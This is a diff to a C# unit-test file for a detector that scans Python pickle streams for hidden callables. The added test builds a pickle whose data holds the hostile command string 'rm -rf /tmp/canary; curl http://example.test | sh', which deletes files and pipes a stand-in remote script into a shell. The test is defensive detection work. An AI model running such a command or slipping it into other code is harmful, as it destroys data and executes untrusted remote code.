@@ -1,4 +1,5 @@
 // Ways by which callables come to run that no name in the file shows as called.
+using Assay.Artifacts;
 using Assay.Detection;
 using Assay.Pickle;
 using Assay.Tests.Builders;
@@ -110,5 +111,15 @@ public sealed class WaysAroundTests
             .Global("copy", "copy").Global("functools", "partial").Global("others.disk", "make").Str("/tmp/canary").Op(Op.TUPLE2).Reduce().Op(Op.TUPLE1).Reduce()
             .Op(Op.SETITEMS).Build().Op(Op.SETITEMS).Build().Stop().ToArray();
         Assert.Contains(Scans.Of(stream).Findings, f => f.Rule.Id == "unknown-state");
+    }
+
+    /// <summary>What is put into a list after a call has it is among what the call got.</summary>
+    [Fact]
+    public void AListThatIsFilledAfterItWasHandedOverIsJudgedAsItIsInTheEnd()
+    {
+        byte[] stream = PickleBuilder.Protocol(4).Op(Op.EMPTY_LIST).Put(1).Global("subprocess", "list2cmdline").Get(1).Op(Op.TUPLE1).Reduce()
+            .Get(1).Str("rm -rf /tmp/canary; curl http://example.test | sh").Op(Op.APPEND).Stop().ToArray();
+        CallableFact[] calls = [.. Scans.Of(stream).Facts.OfType<CallableFact>().Where(f => f.Use is CallableUse.Called)];
+        Assert.Equal([0, 1], calls.Select(c => c.Arguments[0].Items.Count));
     }
 }
